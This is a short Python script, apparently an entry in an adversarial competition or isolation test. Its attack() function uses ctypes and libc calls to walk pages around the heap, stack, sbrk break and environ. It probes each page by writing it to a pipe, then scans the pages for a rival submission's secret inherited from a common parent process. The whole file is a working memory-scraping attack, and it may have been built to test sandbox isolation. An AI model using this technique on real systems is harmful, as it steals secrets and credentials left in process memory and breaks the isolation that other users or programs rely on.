"""Search its own memory for what another submission, or a question to it, left in their common parent."""

import ctypes
import os
import re
import sys

SECRET = re.compile(b"rival's secret [" + b"0-9a-f]{32}")


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = ctypes.c_void_p
    around = [id(object()), id(sys), id([]), id(bytes(5000)), id(bytes(900_000)), id(sys._getframe())]
    around += [libc.sbrk(0), ctypes.addressof(ctypes.c_int()), ctypes.c_void_p.in_dll(libc, "environ").value]
    ends, piece, seen = os.pipe(), 4096, set()
    for centre in around:
        first = centre - centre % piece
        for address in range(first - 2000 * piece, first + 2000 * piece, piece):
            if address <= 0 or address in seen:
                continue
            seen.add(address)
            if libc.write(ends[1], ctypes.c_void_p(address), ctypes.c_size_t(piece)) == piece:
                if found := SECRET.search(os.read(ends[0], piece)):
                    return f"found {found[0].decode()}"
    for end in ends:
        os.close(end)
